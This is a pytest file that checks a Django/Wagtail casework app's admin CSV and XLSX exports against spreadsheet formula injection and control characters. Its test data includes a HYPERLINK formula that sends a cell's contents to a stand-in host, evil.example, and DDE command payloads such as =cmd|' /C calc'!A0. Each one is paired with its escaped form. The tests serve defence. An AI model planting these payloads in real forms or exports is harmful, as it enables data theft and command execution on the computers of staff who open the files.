"""Every export of the admin is safe to open: no control character breaks the XLSX, and no cell
is run as a formula (OWASP CSV injection), whatever the public typed."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from wagtail.contrib.forms.models import FormSubmission

from casework.enrollment.services import application_submit
from casework.exports import spreadsheet_cell
from casework.models import Facility
from casework.services import case_transition

from ..cms_pages.test_request_form import _fields, _valid_data

pytestmark = pytest.mark.django_db

# (what was typed, the cell it becomes)
HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1", "'+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # What is left after the control characters goes first. (No NUL: forms refuse it and
    # PostgreSQL's JSON cannot store it.)
    ("\x02=1+1", "'=1+1"),
    ("さくら\x01\x08\x0b\x0c\x1b\x1f\x7fクリニック", "さくらクリニック"),
    (
        "1行目\n2行目\r\n3行目\tおわり",
        "1行目\n2行目\r\n3行目\tおわり",
    ),  # kept where they mean something
    ("山田 花子", "山田 花子"),
]


@pytest.mark.parametrize(("typed", "cell"), HOSTILE)
def test_a_text_cell_loses_control_characters_and_cannot_be_a_formula(typed, cell):
    assert spreadsheet_cell(typed) == cell


@pytest.mark.parametrize("value", [-100_000, 0, 2.5, None, date(2026, 11, 30)])
def test_numbers_dates_and_empty_cells_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def _column(rows, heading) -> list:
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def hostile_requests(client, site_pages):
    """資料請求 as the public sends them (one with a control character, as measured in issue
    10), and as stored data may hold them (a form cannot carry NUL or a leading tab)."""
    page = site_pages["request"]
    names = _fields(page)
    through_the_form = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
        "さくら\x01\x08\x0b\x0c\x1b\x1f\x7fクリニック",
    ]
    for name in through_the_form:
        response = client.post(page.url, {**_valid_data(page), names["医療機関名"]: name})
        assert response.status_code == 302  # to the thank-you page: stored
    assert FormSubmission.objects.filter(page=page).count() == len(through_the_form)
    for typed, _ in HOSTILE:
        FormSubmission.objects.create(
            page=page, form_data={**_valid_data(page), names["医療機関名"]: typed}
        )
    return page, [
        "'=cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
        "さくらクリニック",
    ] + [cell for _, cell in HOSTILE]


@pytest.mark.parametrize("read", [_csv_rows, _xlsx_rows], ids=["csv", "xlsx"])
def test_request_form_exports_neutralise_hostile_submissions(admin_client, hostile_requests, read):
    page, cells = hostile_requests
    export = "csv" if read is _csv_rows else "xlsx"
    rows = read(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export={export}"))
    if read is _xlsx_rows:  # XML reads every line end back as a line feed
        cells = [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in cells]
    # Sorted: submissions of the same instant have no order.
    assert sorted(_column(rows, "医療機関名")) == sorted(cells)
    assert set(_column(rows, "ご担当者名")) == {"山田 花子"}


@pytest.fixture
def hostile_application(db, doctor_fields):
    return application_submit(
        fields={
            **doctor_fields,
            "applicant_name": "@SUM(1+1)",
            "facility_name": "=cmd|' /C calc'!A0\x1b",
        },
        applied_on=date(2026, 11, 25),
    )


@pytest.mark.parametrize("read", [_csv_rows, _xlsx_rows], ids=["csv", "xlsx"])
def test_the_application_list_exports_neutralise_what_applicants_typed(
    client, support, hostile_application, read
):
    client.force_login(support)
    export = "csv" if read is _csv_rows else "xlsx"
    rows = read(client.get(f"/admin/applications/?export={export}"))
    assert rows[0][:3] == ["受付番号", "状態", "コース"]
    assert _column(rows, "施設名") == ["'=cmd|' /C calc'!A0"]
    assert _column(rows, "申込者の氏名") == ["'@SUM(1+1)"]
    assert _column(rows, "受付番号") == [hostile_application.reference]


@pytest.mark.parametrize("read", [_csv_rows, _xlsx_rows], ids=["csv", "xlsx"])
def test_the_case_list_exports_neutralise_facility_names(client, support, report, read):
    """Facility names come from online applications. Needs casework/views/staff.py's
    CaseIndexView to take casework.exports.SafeSpreadsheetExportMixin (issue 10's report):
    until then this test fails."""
    facility = Facility.objects.create(name='=HYPERLINK("http://evil.example/")\x07')
    case = report(facility=facility, doctor=None)
    client.force_login(support)
    export = "csv" if read is _csv_rows else "xlsx"
    rows = read(client.get(f"/admin/cases/?export={export}"))
    assert _column(rows, "受付番号") == [case.reference]
    assert _column(rows, "施設") == ['\'=HYPERLINK("http://evil.example/")']
    assert _column(rows, "状態") == ["受付"]


@pytest.mark.parametrize("read", [_csv_rows, _xlsx_rows], ids=["csv", "xlsx"])
def test_the_case_list_export_names_the_handler_family_name_first(client, support, report, read):
    support.last_name, support.first_name = "日向", "さやか"
    support.save()
    case = report()
    case_transition(case=case, name="start_triage", by=support)  # takes the case
    client.force_login(support)
    rows = read(client.get(f"/admin/cases/?export={'csv' if read is _csv_rows else 'xlsx'}"))
    assert _column(rows, "担当者") == ["日向 さやか"]  # never the login name
